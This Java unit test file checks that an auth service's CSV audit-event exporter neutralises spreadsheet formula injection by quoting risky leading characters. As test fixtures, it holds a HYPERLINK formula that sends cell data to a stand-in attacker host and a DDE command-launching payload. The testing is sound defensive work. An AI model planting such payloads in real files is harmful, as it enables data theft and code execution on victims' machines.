package dev.authservice.client.export;

import static org.junit.jupiter.api.Assertions.assertEquals;

import dev.authservice.proto.auth.v1.AuditEvent;
import java.io.StringReader;
import java.io.StringWriter;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

class CsvEventsTest {
  @Test
  void everyCellThatBeginsLikeAFormulaGetsALeadingQuote() {
    for (String lead : List.of("=", "+", "-", "@", "\t", "\r")) {
      assertEquals("'" + lead + "1+1", CsvEvents.cell(lead + "1+1"), "leading " + lead.codePointAt(0));
    }
    for (String harmless : List.of("", "alice", "a=1", "1-2", " =x", "'quoted", "10.0.0.1")) {
      assertEquals(harmless, CsvEvents.cell(harmless));
    }
  }

  @Test
  void aHostileEventReadsBackAsTextInEveryColumnItReaches() throws Exception {
    String formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")";
    AuditEvent event = AuditEvent.newBuilder().setId("id-1").setUsername(formula).setUserAgent("@SUM(1+1)*cmd|' /C calc'!A0")
        .setReason("-2+3").setClientIp("+1").setActor("\tx").setSubject("\rx").build();
    StringWriter out = new StringWriter();
    CsvEvents csv = new CsvEvents(out);
    csv.write(event);
    csv.flush();
    CSVRecord row = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
        .parse(new StringReader(out.toString())).getRecords().get(0);
    assertEquals("'" + formula, row.get("username"));
    assertEquals("'@SUM(1+1)*cmd|' /C calc'!A0", row.get("user_agent"));
    assertEquals("'-2+3", row.get("reason"));
    assertEquals("'+1", row.get("client_ip"));
    assertEquals("'\tx", row.get("actor"));
    assertEquals("'\rx", row.get("subject"));
    assertEquals("id-1", row.get("id"));
  }
}
